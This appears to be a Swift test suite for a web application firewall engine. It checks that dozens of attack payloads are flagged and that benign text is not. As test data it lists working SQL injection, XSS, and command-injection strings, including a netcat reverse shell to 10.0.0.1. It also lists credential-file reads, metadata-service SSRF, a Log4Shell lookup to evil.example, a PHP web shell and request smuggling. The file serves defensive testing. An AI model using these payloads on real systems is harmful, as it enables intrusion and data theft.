import Testing

@testable import ScuteWAAS

/// One attack per line: the payload goes into a query parameter unless a location is given.
@Suite struct DetectionTests {
    let engine = WAASEngine()

    @Test(arguments: [
        ("1' or '1'='1", WAASCategory.sqli),
        ("1 UNION SELECT username, password FROM users--", .sqli),
        ("1; DROP TABLE users", .sqli),
        ("admin'--", .sqli),
        ("1 AND SLEEP(5)", .sqli),
        ("' or 1=1#", .sqli),
        ("x') waitfor delay '0:0:5'--", .sqli),
        ("{\"$gt\": \"\"}", .sqli),
        ("<script>alert(1)</script>", .xss),
        ("<img src=x onerror=alert(document.cookie)>", .xss),
        ("<svg/onload=alert(1)>", .xss),
        ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", .xss),
        ("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", .xss),
        ("javascript:alert(1)", .xss),
        ("<div style=\"background:url(javascript:alert(1))\">", .xss),
        ("; cat /etc/passwd", .cmdi),
        ("x | nc -e /bin/sh 10.0.0.1 4444", .cmdi),
        ("$(whoami)", .cmdi),
        ("`id`; w'h'o'am'i", .cmdi),
        ("/???/b??h -c id", .cmdi),
        ("a;c$@at$IFS/etc/passwd", .cmdi),
        ("powershell -enc SQBFAFgA", .cmdi),
        ("FOR /F %i IN ('dir') DO echo %i", .cmdi),
        ("../../../../etc/passwd", .lfi),
        ("..%c0%af..%c0%afwindows/win.ini", .lfi),
        ("http://169.254.169.254/latest/meta-data/", .ssrf),
        ("http://0x7f000001/admin", .ssrf),
        ("http://[::ffff:127.0.0.1]/", .ssrf),
        ("file:///etc/shadow", .rfi),
        ("http://203.0.113.9/shell.txt?", .rfi),
        ("<?php system($_GET['c']); ?>", .php),
        ("php://filter/convert.base64-encode/resource=index.php", .php),
        ("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", .php),
        ("${jndi:ldap://evil.example/a}", .java),
        ("${${lower:j}${::-n}di:rmi://x/y}", .java),
        ("java.lang.Runtime.getRuntime().exec('id')", .java),
        ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", .java),
        ("require('child_process').exec('id')", .node),
        ("__proto__[isAdmin]=true", .node),
        ("{{7*7}}", .ssti),
        ("{{''.__class__.__mro__[1].__subclasses__()}}", .ssti),
        ("*)(uid=*))(|(uid=*", .ldapi),
        ("() { :; }; /bin/bash -c 'id'", .shellshock),
        ("x\r\nSet-Cookie: session=attacker", .smuggling),
    ])
    func attackIsDetected(payload: String, category: WAASCategory) {
        let findings = engine.inspect(Requests.get("/search?q=" + Requests.encode(payload)))
        #expect(findings.categories.contains(category), "\(payload): \(findings)")
    }

    @Test(arguments: [
        "O'Brien", "rock 'n' roll", "Don't stop believin'", "select the best option from the list", "drop me a line",
        "Please update your profile and delete old drafts", "union station, platform 3", "I like cats and/or dogs",
        "<p>Hello <b>world</b> and <a href=\"https://example.com/x\">a link</a></p>", "<img src=\"/cat.jpg\" alt=\"cat\">",
        "JavaScript: The Good Parts", "price >= 10 && size <= 42", "5 < 6 > 4", "C:\\Users\\anna\\report.docx",
        "/home/alice/photos/img_01.jpg", "docs/guide/intro.md", "https://accounts.example.com/callback?code=abc&state=xyz",
        "Grüße aus Köln – schöne Straße!", "你好，我想咨询一下订单。", "مرحبا بكم", "Спасибо за заказ!", "50% off, today only!",
        "{{ user.name }}", "$19.99 (incl. VAT)", "Tom & Jerry; Bonnie & Clyde", "the students' union", "cat videos",
        "time flies like an arrow", "echo chamber", "SELECT is a verb", "e-mail: jane.doe@example.com",
        "ls -- the abbreviation", "while (true) people are kind", "git status shows nothing",
    ])
    func benignTextIsNotFlagged(text: String) {
        let query = engine.inspect(Requests.get("/search?q=" + Requests.encode(text)))
        let form = engine.inspect(Requests.form([("comment", text)]))
        #expect(query.isEmpty, "\(text): \(query)")
        #expect(form.isEmpty, "\(text): \(form)")
    }

    @Test func scannerUserAgentsAreDetected() {
        let findings = engine.inspect(Requests.get("/", headers: [HTTPHeader(name: "User-Agent", value: "sqlmap/1.7.2#stable (https://sqlmap.org)")]))
        #expect(findings.ruleIDs.contains("scanner-931"))
    }

    @Test func sessionFixationNeedsAForeignReferer() {
        let foreign = engine.inspect(Requests.get("/login?PHPSESSID=abc123", headers: [HTTPHeader(name: "Referer", value: "https://evil.example/")]))
        let same = engine.inspect(
            HTTPRequest(
                method: "GET",
                target: "/login?PHPSESSID=abc123",
                headers: [
                    HTTPHeader(name: "Host", value: "shop.example.com"), HTTPHeader(name: "Referer", value: "https://shop.example.com/cart"),
                    HTTPHeader(name: "Accept", value: "*/*"), HTTPHeader(name: "User-Agent", value: "curl/8.5.0"),
                ]
            )
        )
        #expect(foreign.categories.contains(.sessionFixation))
        #expect(!same.categories.contains(.sessionFixation))
    }

    @Test func protocolViolationsAreReported() {
        let smuggled = HTTPRequest(
            method: "POST",
            target: "/",
            headers: Requests.browserHeaders + [
                HTTPHeader(name: "Content-Length", value: "4"), HTTPHeader(name: "Transfer-Encoding", value: "chunked"),
                HTTPHeader(name: "Content-Type", value: "text/plain"),
            ],
            body: Array("0\r\n\r\n".utf8),
            bodyIsChunked: true
        )
        #expect(engine.inspect(smuggled).ruleIDs.contains("smuggling-1101"))
        #expect(engine.inspect(HTTPRequest(method: "TRACE", target: "/", headers: Requests.browserHeaders)).ruleIDs.contains("protocol-1001"))
        #expect(
            engine.inspect(HTTPRequest(method: "GET", target: "/", version: "HTTP/4.0", headers: Requests.browserHeaders)).ruleIDs.contains(
                "protocol-1003"
            )
        )
        #expect(engine.inspect(Requests.get("/backup/db.sql")).ruleIDs.contains("protocol-1014"))
        #expect(engine.inspect(Requests.get("/a?x=%c0%af")).ruleIDs.contains("protocol-1010"))
        #expect(engine.inspect(Requests.get("/a?x=%zz")).ruleIDs.contains("protocol-1009"))
        #expect(engine.inspect(Requests.get("/.git/config")).ruleIDs.contains("lfi-403"))
        let badChunks = HTTPRequest(
            method: "POST",
            target: "/",
            headers: Requests.browserHeaders + [HTTPHeader(name: "Transfer-Encoding", value: "chunked")],
            body: Array("5\r\nab\r\n0\r\n\r\n".utf8),
            bodyIsChunked: true
        )
        #expect(engine.inspect(badChunks).ruleIDs.contains("smuggling-1104"))
    }

    @Test func uploadsOfScriptsAreDetected() {
        let body = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php.\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n"
        let findings = engine.inspect(Requests.post(contentType: "multipart/form-data; boundary=b", body: body))
        #expect(findings.ruleIDs.contains("php-608"))
    }
}
